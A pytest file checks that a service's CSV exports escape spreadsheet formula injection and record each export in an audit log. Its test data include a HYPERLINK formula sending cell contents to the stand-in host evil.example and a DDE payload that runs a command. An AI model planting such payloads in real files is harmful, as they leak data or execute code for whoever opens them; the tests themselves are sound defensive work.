"""CSV exports: no cell runs as a formula, and every export is on the record (issue #19, items 8 and 9)."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from service.domain.core.transaction import transaction
from service.domain.monitoring import dashboard as monitoring, reports
from service.domain.monitoring.csv_export import safe_cell
from service.extensions import db
from service.models import AuditEvent

START = {"matter_reference": "M-1", "incident_date": "2026-03-01", "wait_period": "P1D"}
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_is_shown_as_text(text):
    assert safe_cell(text) == "'" + text


def test_ordinary_cells_and_numbers_are_unchanged():
    assert [safe_cell(v) for v in ("Alex Smith", "O'Neil", 42, -3, 1.5, "")] == ["Alex Smith", "O'Neil", 42, -3, 1.5, ""]


def test_the_cases_csv_neutralises_names_from_the_public_and_records_the_export(as_user):
    officer = as_user("case_officer")
    for name in ATTACKS[:3]:
        assert officer.post("/api/v1/cases", json={**START, "service_user_name": name,
                                                   "matter_reference": "=1+2"}).status_code == 201
    with transaction(db.session):
        text = monitoring.export_csv(db.session, "supervisor", monitoring.MonitorFilters(stage="manager_review"))
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert sorted(row[1] for row in rows) == sorted("'" + name for name in ATTACKS[:3])
    assert {row[2] for row in rows} == {"'=1+2"}
    [event] = db.session.query(AuditEvent).filter_by(action="cases_exported").all()
    assert event.actor == "supervisor" and event.data == {"filters": {"stage": "manager_review"}, "cases": 3}


def test_the_report_csv_goes_through_the_same_helper_and_is_recorded(as_user):
    start, end = datetime(2026, 1, 1, tzinfo=timezone.utc), datetime(2026, 12, 31, tzinfo=timezone.utc)
    with transaction(db.session):
        text = reports.export_csv(db.session, "supervisor", reports.yearly_report(db.session, start, end), start, end)
    assert text.splitlines()[0] == "figure,value"
    [event] = db.session.query(AuditEvent).filter_by(action="report_exported").all()
    assert event.actor == "supervisor" and event.data["from"].startswith("2026-01-01")
